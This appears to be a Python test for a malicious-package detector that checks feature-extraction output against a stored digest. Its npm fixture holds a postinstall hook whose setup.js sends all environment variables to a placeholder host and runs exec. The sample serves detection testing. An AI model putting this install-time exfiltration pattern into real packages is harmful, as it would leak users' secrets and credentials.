"""Columns that hold other values than those that the shipped model learned from are of another edition."""

from hashlib import sha256

import numpy as np

from darnel import selftest
from darnel.features import vectorise
from darnel.features.extract import extract
from darnel.features.package import Ecosystem, MemoryPackage

KNOWN = {8: "be45620c4d53"}
"""Digests of the values below, by edition. Other values? Then raise ``EDITION``, retrain, and put the new one here."""

NPM = MemoryPackage(
    {
        "package.json": b'{"name": "inert", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}',
        "setup.js": b"""const { exec } = require('child_process');
const data = Buffer.from('aGVsbG8=', 'base64');
fetch('http://collect.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });
exec('echo ' + data.toString());
""",
        "README.md": b"# inert: not malware, and does nothing\n",
    },
    Ecosystem.NPM,
    name="inert",
    version="1.0.0",
)


def test_values_are_of_this_edition() -> None:
    digest = sha256()
    for package in (selftest.inert_package(), selftest.harmless_package(), NPM):
        raw = extract(package)
        files, whole = vectorise.vectorise_files(raw), vectorise.vectorise_package(raw)
        for columns, rows in ((vectorise.FILE_COLUMNS, files), (vectorise.PACKAGE_COLUMNS, whole[np.newaxis])):
            for name, column in zip(columns.names, rows.T, strict=True):
                if column.any():
                    digest.update(f"{name} {[f'{value:.3g}' for value in column]}\n".encode())
    assert digest.hexdigest()[:12] == KNOWN[vectorise.EDITION]
